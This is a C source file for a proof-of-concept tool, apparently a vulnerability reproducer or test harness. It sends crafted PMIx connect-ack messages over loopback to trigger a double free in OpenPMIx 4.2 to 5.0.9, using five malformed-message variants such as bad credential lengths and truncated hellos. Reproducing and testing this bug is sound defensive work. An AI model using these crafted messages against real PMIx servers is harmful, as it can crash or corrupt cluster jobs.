/*
 * pmix_handshake - send a PMIx server a hand-made first message ("hello",
 * OpenPMIx's connect-ack) of the kind that made OpenPMIx 4.2 to 5.0.9 free
 * a rank's record twice, then hang up 0.1 s later without reading a byte
 * (long enough for the server to look at who connected). No PMIx library:
 * the bytes are written here, as an attacker would.
 *
 * usage: pmix_handshake PORT KIND NSPACE RANK
 *   KIND nocred     no credential (the library's check fails after it
 *                   found the rank)
 *        vanish     a hello the library accepts, then gone before its
 *                   answer (as a task killed inside PMIx_Init)
 *        badbfrops  a buffer module the library does not have
 *        bigcred    a credential length past the message's end
 *        short      half a hello, then gone
 *
 * Prints "pmix_handshake: KIND: sent N bytes" and exits 0, or 1 if it could
 * not connect or send.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "hello_msg.h"

/* The body of kind `kind` for rank `rank` of `ns`. */
static int body(struct hello_msg *m, const char *kind, const char *ns,
		uint32_t rank)
{
	uint32_t ids[2] = {(uint32_t)getuid(), (uint32_t)getgid()};
	uint8_t client = 0, fully_described = 2;
	static const char *const kinds[] = {"nocred", "vanish", "badbfrops",
					    "bigcred", "short"};
	size_t k = 0;

	while (k < 5 && strcmp(kind, kinds[k]))
		k++;
	if (k == 5)
		return -1;
	hello_str(m, "native");
	if (!strcmp(kind, "nocred")) {
		hello_u32(m, 0);
	} else if (!strcmp(kind, "bigcred")) {
		hello_u32(m, 0x7fffffff);
		hello_put(m, ids, sizeof(ids));
	} else {
		hello_cred(m, ids[0], ids[1]);
	}
	hello_u8(m, client);
	hello_str(m, ns);
	hello_u32(m, rank);
	hello_str(m, "4.2.2");
	hello_str(m, strcmp(kind, "badbfrops") ? "v41" : "v99");
	hello_u8(m, fully_described);
	hello_str(m, "hash");
	return 0;
}

int main(int argc, char **argv)
{
	struct sockaddr_in sin = {.sin_family = AF_INET};
	struct hello_msg b = {.n = 0}, all = {.n = 0};
	uint8_t hdr[16] = {0};
	uint32_t nbytes;
	size_t len;
	int fd;

	if (argc != 5 || body(&b, argv[2], argv[3],
			      (uint32_t)strtoul(argv[4], NULL, 10)) < 0) {
		fprintf(stderr, "usage: pmix_handshake PORT "
				"nocred|vanish|badbfrops|bigcred|short NSPACE "
				"RANK\n");
		return 2;
	}
	nbytes = (uint32_t)b.n; /* the header is in the sender's order */
	memcpy(hdr + 8, &nbytes, 4);
	hello_put(&all, hdr, sizeof(hdr));
	hello_put(&all, b.b, b.n);
	len = strcmp(argv[2], "short") ? all.n : sizeof(hdr) + b.n / 2;
	sin.sin_port = htons((uint16_t)atoi(argv[1]));
	sin.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if ((fd = socket(AF_INET, SOCK_STREAM, 0)) < 0 ||
	    connect(fd, (struct sockaddr *)&sin, sizeof(sin)) < 0 ||
	    write(fd, all.b, len) != (ssize_t)len) {
		perror("pmix_handshake");
		return 1;
	}
	usleep(100000);
	close(fd);
	printf("pmix_handshake: %s: sent %zu bytes\n", argv[2], len);
	return 0;
}
